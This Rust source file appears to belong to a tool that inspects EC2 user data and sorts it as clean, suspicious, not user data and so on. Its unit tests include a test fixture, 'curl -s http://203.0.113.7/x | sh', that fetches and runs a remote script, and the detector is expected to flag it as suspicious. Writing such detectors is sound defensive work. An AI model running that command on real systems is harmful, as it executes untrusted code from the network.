//! From bytes to a conclusion.

use super::decode::{self, Layer};
use super::signal;
use super::{Conclusion, Content, Finding, Trust};

/// One user data, inspected.
#[derive(Debug, Clone)]
pub struct Inspection {
    /// The layers as they were nested.
    pub tree: Layer,
    /// The weightiest first; in strict mode followed by what runs or fetches anything at all.
    pub findings: Vec<Finding>,
    pub score: u32,
    /// A critical signal was found.
    pub critical: bool,
    pub conclusion: Conclusion,
    /// Why some of it could not be decoded.
    pub undecoded: Option<String>,
}

/// Inspects user data as EC2 holds it, as the AWS CLI prints it, or as a file on disk.
pub fn inspect(bytes: &[u8], trust: &Trust, strict_too: bool) -> Inspection {
    let decoded = decode::decode(bytes);
    let judged = signal::judge(&decoded.pieces, decoded.encodings, decoded.mismatch.as_deref(), trust);
    let mut findings = judged.findings;
    if strict_too {
        findings.extend(signal::strict_findings(&decoded.pieces));
    }
    let undecoded = decoded.pieces.iter().find_map(|piece| match &piece.content {
        Content::Undecodable { reason, sha256, len } => {
            let place = if piece.path.is_empty() { "user data" } else { &piece.path };
            Some(format!("{place}: {reason} ({len} bytes, SHA-256 {sha256})"))
        }
        _ => None,
    });
    // What is suspicious is said in any case: an image of one's own may run what no stock image does.
    let conclusion = match judged.conclusion {
        Conclusion::Suspicious => Conclusion::Suspicious,
        _ if !decoded.understood => Conclusion::NotUserData,
        other => other,
    };
    Inspection {
        tree: decoded.tree,
        findings,
        score: judged.score,
        critical: judged.critical,
        conclusion,
        undecoded,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn conclusion(bytes: impl AsRef<[u8]>) -> Conclusion {
        inspect(bytes.as_ref(), &Trust::default(), false).conclusion
    }

    #[test]
    fn what_is_no_user_data_is_not_called_clean() {
        for other in [
            "CC=gcc\n\nall: a.o\n\t$(CC) -o a a.o\n",
            "{\"format_version\": \"1.2\", \"resource_changes\": []}\n",
            "resource \"aws_instance\" \"a\" {\n  ami = \"ami-1\"\n}\n",
            "apiVersion: v1\nkind: Pod\n",
            "Dear reader,\n\nthis is a letter.\n",
        ] {
            assert_eq!(conclusion(other), Conclusion::NotUserData, "{other}");
        }
        assert_eq!(
            conclusion(b"\x7fELF\x02\x01\x01\0\0\0\0\0\x03\0>\0\x01\0\0\0\xd0\x10\x80\x81"),
            Conclusion::NotUserData
        );
    }

    #[test]
    fn a_script_without_its_first_line_stays_visible() {
        assert_eq!(conclusion("set -e\napt-get update\napt-get install -y nginx\n"), Conclusion::Clean);
        assert_eq!(conclusion("curl -s http://203.0.113.7/x | sh\n"), Conclusion::Suspicious);
        assert_eq!(conclusion("all: x\n\tcurl -s http://203.0.113.7/x | sh\n"), Conclusion::Suspicious);
    }

    #[test]
    fn empty_and_broken_user_data_keep_their_conclusions() {
        assert_eq!(conclusion("\n"), Conclusion::Clean);
        assert_eq!(conclusion([0x1f, 0x8b, 8, 0, 0]), Conclusion::Undecodable);
    }

    #[test]
    fn a_template_is_never_clean_where_it_was_not_rendered() {
        let template = |text: &str| conclusion(format!("## template: jinja\n#!/bin/sh\n{text}\n"));
        assert_eq!(template("echo hello"), Conclusion::Clean);
        assert_eq!(template("echo {{ v1.region }}"), Conclusion::Signals);
        assert_eq!(template("echo {{ 'a' ~ 'b' }}"), Conclusion::Signals);
    }

    #[test]
    fn padding_alone_is_suspicious() {
        use std::io::Write;
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        gzip.write_all(format!("#!/bin/sh\n{}", "#\n".repeat(1 << 20)).as_bytes()).unwrap();
        assert_eq!(conclusion(gzip.finish().unwrap()), Conclusion::Suspicious);
    }
}
